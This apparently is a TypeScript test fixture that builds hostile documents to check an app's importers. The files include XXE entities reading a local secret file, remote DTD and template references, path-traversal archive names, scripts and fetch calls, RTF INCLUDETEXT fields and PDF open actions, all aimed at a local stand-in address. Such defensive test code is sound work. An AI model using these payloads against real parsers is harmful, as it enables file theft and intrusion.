import { CONTAINER, docxOf, epubOf, fodtOf, odtOf, WORD_PARAGRAPH, zipOf } from '../electron/importers/documents.ts'
import { flat, type HostileFile, withDoctype } from './hostile-files.ts'

/** What asks for files of this machine and addresses of others. */
export const reaching = (secret: string): readonly HostileFile[] => {
  const doctype = `<!DOCTYPE x [<!ENTITY secret SYSTEM "file://${secret}"><!ENTITY % remote SYSTEM "http://127.0.0.1:9/x.dtd"> %remote;]>`
  const out = 'http://127.0.0.1:9/x'
  const relations = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${out}.dotm" TargetMode="External"/><Relationship Id="i" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://${secret}" TargetMode="External"/></Relationships>`
  const slips = Object.fromEntries(
    ['../../../../tmp/tickmark-slip', '/tmp/tickmark-slip', '..\\..\\tickmark-slip', 'C:\\tickmark-slip'].map(
      (name) => [name, 'slipped'],
    ),
  )
  return [
    {
      what: 'an entity from a file',
      name: 'a.docx',
      make: () => docxOf('<w:p><w:r><w:t>Words &secret;</w:t></w:r></w:p>', {}, doctype),
    },
    {
      what: 'an entity from a file',
      name: 'a.odt',
      make: () => zipOf({ 'content.xml': `<?xml version="1.0"?>${doctype}<a>&secret;</a>` }),
    },
    {
      what: 'an entity from a file',
      name: 'a.fodt',
      make: () => flat(withDoctype(fodtOf('<text:p>Words &secret;</text:p>'), doctype)),
    },
    {
      what: 'an entity from a file in a page',
      name: 'a.html',
      make: () => flat(`<?xml version="1.0"?>${doctype}<html><body><p>Words &secret; here.</p></body></html>`),
    },
    {
      what: 'an entity from a file in a book',
      name: 'a.epub',
      make: () =>
        epubOf({}, { files: { 'book/package.opf': `<?xml version="1.0"?>${doctype}<package>&secret;</package>` } }),
    },
    {
      what: 'an entity from a file in a chapter',
      name: 'a.epub',
      make: () =>
        zipOf({
          'META-INF/container.xml': CONTAINER,
          'p.opf':
            '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>',
          'a.xhtml': `<?xml version="1.0"?>${doctype}<html><body><p>Words &secret; here.</p></body></html>`,
        }),
    },
    {
      what: 'a template and a picture elsewhere',
      name: 'a.docx',
      make: () =>
        docxOf(WORD_PARAGRAPH, {
          'word/_rels/document.xml.rels': relations,
          'word/_rels/settings.xml.rels': relations,
        }),
    },
    { what: 'names that lead out of the folder', name: 'a.docx', make: () => docxOf(WORD_PARAGRAPH, slips) },
    {
      what: 'names that lead out of the folder',
      name: 'a.epub',
      make: () => epubOf({ 'a.xhtml': '<p>Words here.</p>' }, { files: slips }),
    },
    {
      what: 'pictures, style sheets and scripts elsewhere',
      name: 'a.html',
      make: () =>
        flat(
          `<html><head><link rel="stylesheet" href="${out}"><script src="${out}"></script><meta http-equiv="refresh" content="0;url=${out}"><base href="${out}"></head><body><p>Words here.</p><img src="${out}"><iframe src="file://${secret}"></iframe><object data="${out}"></object><script>fetch("${out}")</script></body></html>`,
        ),
    },
    {
      what: 'pictures and objects elsewhere',
      name: 'a.odt',
      make: () =>
        odtOf(
          `<text:p>Words here.<draw:frame><draw:image xlink:href="${out}"/><draw:object xlink:href="file://${secret}"/></draw:frame></text:p><text:section><text:section-source xlink:href="file://${secret}"/></text:section>`,
        ),
    },
    {
      what: 'fields and a template elsewhere',
      name: 'a.rtf',
      make: () =>
        flat(
          `{\\rtf1{\\*\\template ${out}}Words here.{\\field{\\*\\fldinst INCLUDETEXT "${secret}"}{\\fldrslt }}{\\field{\\*\\fldinst INCLUDEPICTURE "${out}"}{\\fldrslt }}}`,
        ),
    },
    {
      what: 'pictures and chapters elsewhere',
      name: 'a.epub',
      make: () =>
        epubOf(
          { 'a.xhtml': `<p>Words here.</p><img src="${out}"/><script>fetch("${out}")</script>` },
          { items: `<item id="x" href="${out}.css" media-type="text/css"/>` },
        ),
    },
    {
      what: 'an action on opening',
      name: 'a.pdf',
      make: () =>
        flat(
          `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(${out})>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/JavaScript/JS(app.launchURL\\("${out}"\\))>>>>>>endobj\ntrailer<</Root 1 0 R>>`,
        ),
    },
  ]
}
